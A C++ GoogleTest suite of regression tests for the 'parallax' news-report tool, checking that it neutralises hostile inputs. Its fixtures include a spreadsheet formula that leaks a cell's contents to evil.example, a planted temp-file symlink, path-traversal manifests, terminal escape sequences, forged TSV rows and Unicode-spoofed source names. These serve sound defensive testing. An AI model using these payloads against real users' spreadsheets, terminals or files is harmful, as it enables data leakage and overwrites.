// Regression tests for the defects of the second reliability probe
// (../shared/reviews/reliability-probe.md: hostile inputs, paths and outputs), each run through the
// real executable and named for the defect it guards. The catalogue rows are in
// docs/hostile_inputs.md.
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <sstream>
#include <string>
#include <vector>

#include "tests/parallax_runner.h"

namespace parallax {
namespace {

namespace fs = std::filesystem;

using testing_util::RunResult;
using testing_util::Slurp;

bool Contains(const std::string& haystack, const std::string& needle) {
  return haystack.find(needle) != std::string::npos;
}

constexpr char kArticleA[] =
    "Officials said the talks ended on Friday after two days of meetings in the capital.\n";
constexpr char kArticleB[] =
    "The talks ended on Friday, officials reportedly said, after two days in the capital.\n";

class ReliabilityProbeTest : public ::testing::Test {
 protected:
  void SetUp() override {
    const auto* info = ::testing::UnitTest::GetInstance()->current_test_info();
    dir_ = fs::temp_directory_path() /
           (std::string("parallax_probe_") + info->name() + "_" + std::to_string(::getpid()));
    fs::remove_all(dir_);
    fs::create_directories(dir_);
    Write("a.txt", kArticleA);
    Write("b.txt", kArticleB);
  }
  void TearDown() override { fs::remove_all(dir_); }

  std::string Write(const std::string& name, const std::string& bytes) {
    fs::path p = dir_ / name;
    fs::create_directories(p.parent_path());
    std::ofstream(p, std::ios::binary) << bytes;
    return p.string();
  }
  std::string Path(const std::string& name) const { return (dir_ / name).string(); }
  std::string Read(const std::string& name) const { return Slurp(dir_ / name); }

  RunResult Run(const std::string& args) { return testing_util::RunParallax(args, dir_); }

  // Runs `parallax ARGS` in the test folder under `timeout`: a command that would wait forever
  // exits 124 after `seconds` instead of hanging the test run.
  RunResult RunWithTimeout(const std::string& args, int seconds = 30) {
    const std::string cmd = "cd '" + dir_.string() + "' && timeout -s KILL " +
                            std::to_string(seconds) + " " + PARALLAX_BINARY + " " + args +
                            " </dev/null >.out 2>.err";
    const int status = std::system(cmd.c_str());
    RunResult r;
    r.exit_code = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
    r.out = Read(".out");
    r.err = Read(".err");
    return r;
  }

  fs::path dir_;
};

// Defect 1: a crawled page chose its source name, and the CSV carried it as a live formula.
TEST_F(ReliabilityProbeTest, Issue19CsvFormulaInjectionFromACrawledPageIsNeutralised) {
  Write(
      "f.jsonl",
      R"j({"id":"=1+1","source_domain":"=HYPERLINK(\"http://evil.example/?q=\"&N2,\"Reuters\")",)j"
      R"("maintext":"Officials reportedly said the talks ended on Friday after two days."})"
      "\n");
  RunResult r = Run("report f.jsonl a.txt -o r.html --csv r.csv");
  ASSERT_EQ(r.exit_code, 0) << r.err;
  const std::string csv = Read("r.csv");
  EXPECT_TRUE(Contains(csv, R"j("'=HYPERLINK(""http://evil.example/?q=""&N2,""Reuters"")")j"))
      << csv;
  EXPECT_TRUE(Contains(csv, "\r\n'=1+1,")) << csv;
  // No cell starts with a formula character: none after a line start, a comma or a quote.
  for (const char* bad : {"\n=", ",=", ",\"=", "\n\"=", "\n+", ",+", ",\"+", "\n-", ",-", ",\"-",
                          "\n@", ",@", ",\"@"}) {
    EXPECT_FALSE(Contains(csv, bad)) << bad << "\n" << csv;
  }
}

// Defect 2: a symbolic link planted at the predictable temporary name "OUT.tmp-<pid>" made the
// report overwrite the file it pointed to.
TEST_F(ReliabilityProbeTest, Issue19PlantedTemporarySymlinkDoesNotRedirectTheReport) {
  Write("victim.txt", "precious");
  const std::string cmd = "cd '" + dir_.string() +
                          "' && sh -c 'ln -s victim.txt out.html.tmp-$$; exec " + PARALLAX_BINARY +
                          " report a.txt b.txt -o out.html' >.out 2>.err";
  const int status = std::system(cmd.c_str());
  ASSERT_TRUE(WIFEXITED(status));
  EXPECT_EQ(WEXITSTATUS(status), 0) << Read(".err");
  EXPECT_EQ(Read("victim.txt"), "precious");
  EXPECT_FALSE(fs::is_symlink(Path("out.html")));
  EXPECT_TRUE(Contains(Read("out.html"), "<html")) << "the report was not written";
}

// Defect 3: outputs that named the same file destroyed the old file; an output naming an input
// overwrote the article; an existing non-regular output (a device, a FIFO) was replaced.
TEST_F(ReliabilityProbeTest, Issue19OutputsThatCollideOrAreNotRegularFilesAreRefusedFirst) {
  Write("x.html", "old report");
  RunResult r = Run("report a.txt b.txt -o x.html --json x.html");
  EXPECT_EQ(r.exit_code, 2) << r.err;
  EXPECT_TRUE(Contains(r.err, "-o and --json both name x.html")) << r.err;
  EXPECT_EQ(Read("x.html"), "old report");

  r = Run("report a.txt b.txt -o r.html --csv ./r.html");
  EXPECT_EQ(r.exit_code, 2) << r.err;
  EXPECT_FALSE(fs::exists(Path("r.html")));

  r = Run("report a.txt b.txt -o b.txt");
  EXPECT_EQ(r.exit_code, 2) << r.err;
  EXPECT_TRUE(Contains(r.err, "-o b.txt is also an input")) << r.err;
  EXPECT_EQ(Read("b.txt"), kArticleB);

  // An article named by a manifest is an input too.
  Write("m.yaml",
        "articles:\n  - {id: a, source: A, path: a.txt}\n  - {id: b, source: B, path: b.txt}\n");
  r = Run("report m.yaml -o r.html --json a.txt");
  EXPECT_EQ(r.exit_code, 2) << r.err;
  EXPECT_TRUE(Contains(r.err, "--json a.txt is also an input")) << r.err;
  EXPECT_EQ(Read("a.txt"), kArticleA);

  ASSERT_EQ(::mkfifo(Path("pipe.html").c_str(), 0600), 0);
  r = Run("report a.txt b.txt -o pipe.html");
  EXPECT_EQ(r.exit_code, 2) << r.err;
  EXPECT_TRUE(Contains(r.err, "-o pipe.html: exists and is not a regular file")) << r.err;
  struct stat st;
  ASSERT_EQ(::lstat(Path("pipe.html").c_str(), &st), 0);
  EXPECT_TRUE(S_ISFIFO(st.st_mode)) << "the FIFO was replaced";
}

// Defect 5: a manifest could read any file (`path: /etc/hostname`, `../../…`) and publish it.
TEST_F(ReliabilityProbeTest, Issue19ManifestPathsOutsideItsFolderAreRefused) {
  Write("secret.txt", "The secret plan was agreed on Friday by the two ministers in private.\n");
  Write("corpus/a.txt", kArticleA);
  Write("corpus/up.yaml",
        "articles:\n  - {id: a, source: A, path: a.txt}\n"
        "  - {id: s, source: S, path: ../secret.txt}\n");
  Write("corpus/abs.yaml",
        "articles:\n  - {id: a, source: A, path: a.txt}\n  - id: s\n    source: S\n"
        "    path: " +
            Path("secret.txt") + "\n");
  fs::create_symlink(Path("secret.txt"), Path("corpus/link.txt"));
  Write("corpus/link.yaml",
        "articles:\n  - {id: a, source: A, path: a.txt}\n  - {id: s, source: S, path: link.txt}\n");
  const struct {
    const char* manifest;
    const char* where;
  } cases[] = {{"corpus/up.yaml", "corpus/up.yaml:3:5: secret.txt: is outside"},
               {"corpus/abs.yaml", "corpus/abs.yaml:3:5: /"},
               {"corpus/link.yaml", "corpus/link.yaml:3:5: corpus/link.txt: is outside"}};
  for (const auto& c : cases) {
    RunResult r = Run(std::string("report ") + c.manifest + " -o r.html");
    EXPECT_EQ(r.exit_code, 1) << c.manifest << "\n" << r.err;
    EXPECT_TRUE(Contains(r.err, c.where)) << r.err;
    EXPECT_TRUE(Contains(r.err, "is outside the manifest's folder")) << r.err;
    EXPECT_TRUE(Contains(r.err, "--allow-outside-paths")) << r.err;
    EXPECT_FALSE(fs::exists(Path("r.html")));
    // Allowed when the user says so.
    r = Run(std::string("report ") + c.manifest + " --allow-outside-paths -o r.html --json r.json");
    EXPECT_EQ(r.exit_code, 0) << c.manifest << "\n" << r.err;
    EXPECT_TRUE(Contains(Read("r.json"), "secret plan")) << c.manifest;
    fs::remove(Path("r.html"));
  }
  // `index add` reads manifests the same way.
  RunResult r = Run("index add corpus/up.yaml --index idx");
  EXPECT_EQ(r.exit_code, 1) << r.err;
  EXPECT_TRUE(Contains(r.err, "is outside the manifest's folder")) << r.err;
}

// Defect 6: a FIFO given as an input made every command wait forever in open().
TEST_F(ReliabilityProbeTest, Issue19FifoInputsAreRefusedNotWaitedOn) {
  ASSERT_EQ(::mkfifo(Path("fifo.txt").c_str(), 0600), 0);
  ASSERT_EQ(::mkfifo(Path("fifo.yaml").c_str(), 0600), 0);
  Write("m.yaml",
        "articles:\n  - {id: a, source: A, path: a.txt}\n  - {id: f, source: F, path: fifo.txt}\n");
  const struct {
    const char* args;
    int exit_code;
    const char* message;
  } cases[] = {
      {"report fifo.txt a.txt -o r.html", 1, "fifo.txt: is not a regular file (it is a FIFO"},
      {"report m.yaml -o r.html", 1, "m.yaml:3:5: fifo.txt: is not a regular file"},
      {"report fifo.yaml -o r.html", 1, "fifo.yaml: is not a regular file"},
      {"mark fifo.txt", 1, "fifo.txt: is not a regular file"},
      {"index add fifo.txt --index idx", 1, "fifo.txt: is not a regular file"},
      {"batch fifo.txt a.txt b.txt -o out", 0, "skipped: fifo.txt: is not a regular file"},
  };
  for (const auto& c : cases) {
    RunResult r = RunWithTimeout(c.args);
    EXPECT_NE(r.exit_code, 137) << c.args << ": still waiting after 30 s";
    EXPECT_EQ(r.exit_code, c.exit_code) << c.args << "\n" << r.err;
    EXPECT_TRUE(Contains(r.err, c.message)) << c.args << "\n" << r.err;
  }
}

// Defect 7 (the part about the flag): --threads 99999999 aborted with std::bad_alloc (exit 134)
// and negative values were taken silently as "one per core".
TEST_F(ReliabilityProbeTest, Issue19ThreadsOutsideZeroToTheCapAreUsageErrors) {
  for (const char* bad : {"-1", "-1000", "99999999", "1025"}) {
    for (const std::string& command :
         {std::string("report a.txt b.txt -o r.html"), std::string("batch a.txt b.txt -o out"),
          std::string("mark a.txt"), std::string("index add a.txt --index idx")}) {
      RunResult r = Run(command + " --threads " + bad);
      EXPECT_EQ(r.exit_code, 2) << command << " --threads " << bad << "\n" << r.err;
      EXPECT_TRUE(Contains(r.err, "--threads must be between 0 (one per core) and 1024")) << r.err;
    }
  }
  EXPECT_FALSE(fs::exists(Path("r.html")));
  RunResult r = Run("report a.txt b.txt -o r.html --threads 1024");
  EXPECT_EQ(r.exit_code, 0) << r.err;
}

// Defect 9: a source with U+202E read "reuters.com"; sources differing only by invisible
// characters or stacked combining marks all read "Reuters".
TEST_F(ReliabilityProbeTest, Issue19SpoofedSourceNamesAreShownVisibly) {
  std::string stacked = "Re";
  for (int i = 0; i < 20; ++i) stacked += "\\u0301";
  stacked += "uters";
  Write(
      "f.jsonl",
      R"({"id":"r1","source_domain":"Reuters","maintext":"Officials said the talks ended on Friday after two days."})"
      "\n"
      R"({"id":"r2","source_domain":"Reuters\u200b","maintext":"Officials reportedly said the talks ended on Friday."})"
      "\n"
      R"({"id":"r3","source_domain":"\u202emoc.sretuer","maintext":"The talks ended on Friday, officials said."})"
      "\n"
      R"({"id":"r4","source_domain":")" +
          stacked +
          R"(","maintext":"The talks may have ended on Friday, officials said."})"
          "\n");
  RunResult r = Run("report f.jsonl -o r.html --json r.json");
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_TRUE(Contains(r.err,
                       "warning: f.jsonl:2: source name 'Reuters<U+200B>' holds 1 "
                       "invisible, direction-changing or stacked character"))
      << r.err;
  const nlohmann::json json = nlohmann::json::parse(Read("r.json"));
  std::vector<std::string> sources;
  for (const auto& a : json["articles"]) sources.push_back(a["source"]);
  ASSERT_EQ(sources.size(), 4u);
  EXPECT_EQ(sources[0], "Reuters");
  EXPECT_EQ(sources[1], "Reuters<U+200B>");
  EXPECT_EQ(sources[2], "<U+202E>moc.sretuer");
  EXPECT_TRUE(Contains(sources[3], "<U+0301>")) << sources[3];
  const std::string html = Read("r.html");
  EXPECT_FALSE(Contains(html, "\xE2\x80\xAE")) << "a raw U+202E reached the page";
  EXPECT_FALSE(Contains(html, "\xE2\x80\x8B")) << "a raw U+200B reached the page";
  EXPECT_TRUE(Contains(html, "Reuters&lt;U+200B&gt;"));
}

// Defect 11: a manifest's first `articles:` list was silently dropped when the key came twice.
TEST_F(ReliabilityProbeTest, Issue19DuplicateYamlKeysAreErrors) {
  Write("m.yaml",
        "articles:\n  - {id: a, source: A, path: a.txt}\ntitle: t\n"
        "articles:\n  - {id: b, source: B, path: b.txt}\n");
  RunResult r = Run("report m.yaml -o r.html");
  EXPECT_EQ(r.exit_code, 1) << r.err;
  EXPECT_TRUE(Contains(r.err, "m.yaml:4:1: duplicate key 'articles' (first at m.yaml:1:1)"))
      << r.err;
  EXPECT_FALSE(fs::exists(Path("r.html")));
}

// Defect 12: ESC sequences and tab/newline in ids and sources reached the terminal raw and
// forged rows of the `index list` TSV.
TEST_F(ReliabilityProbeTest, Issue19TerminalEscapesInSearchAndIndexListAreShownNotActed) {
  Write(
      "f.jsonl",
      R"({"id":"evil\tFAKE\t1999-01-01\t99\tForged\nsecond","source_domain":"\u001b]0;pwned\u0007Wire","maintext":"Officials said the ceasefire talks ended on Friday."})"
      "\n"
      R"({"id":"ok","source_domain":"Other","maintext":"The ceasefire talks ended on Friday, officials said."})"
      "\n");
  RunResult r = Run("index add f.jsonl --index idx");
  ASSERT_EQ(r.exit_code, 0) << r.err;
  r = Run("index list --index idx");
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_FALSE(Contains(r.out, "\x1b")) << r.out;
  EXPECT_FALSE(Contains(r.out, "\a")) << r.out;
  // Two articles: two lines of five tab-separated fields, nothing forged.
  size_t lines = 0;
  std::string line;
  std::istringstream in(r.out);
  while (std::getline(in, line)) {
    ++lines;
    EXPECT_EQ(std::count(line.begin(), line.end(), '\t'), 4) << line;
  }
  EXPECT_EQ(lines, 2u) << r.out;
  r = Run("search --index idx ceasefire");
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_FALSE(Contains(r.out, "\x1b")) << r.out;
  EXPECT_FALSE(Contains(r.out, "\a")) << r.out;
  EXPECT_TRUE(Contains(r.out, "<U+001B>]0;pwned<U+0007>Wire")) << r.out;
}

// Defect 13: one duplicate id in a crawl failed the whole batch.
TEST_F(ReliabilityProbeTest, Issue19OneDuplicateIdIsSkippedNotTheBatch) {
  Write(
      "crawl.jsonl",
      R"({"id":"x","source_domain":"A","maintext":"Officials said the talks ended on Friday after two days."})"
      "\n"
      R"({"id":"y","source_domain":"B","maintext":"The talks ended on Friday, officials reportedly said."})"
      "\n"
      R"({"id":"x","source_domain":"C","maintext":"A copy of the first article crawled twice today."})"
      "\n");
  RunResult r = Run("batch crawl.jsonl -o out");
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_TRUE(Contains(r.err,
                       "skipped: crawl.jsonl:3: duplicate article id 'x' (first in "
                       "crawl.jsonl:1)"))
      << r.err;
  const nlohmann::json map = nlohmann::json::parse(Read("out/stories.json"));
  EXPECT_EQ(map["articles"].size(), 2u);
  EXPECT_EQ(map["skipped"].size(), 1u);
  // `report` still refuses duplicates: one report must not silently drop an article.
  r = Run("report crawl.jsonl -o r.html");
  EXPECT_EQ(r.exit_code, 1) << r.err;
  EXPECT_TRUE(Contains(r.err, "duplicate article id 'x'")) << r.err;
}

}  // namespace
}  // namespace parallax
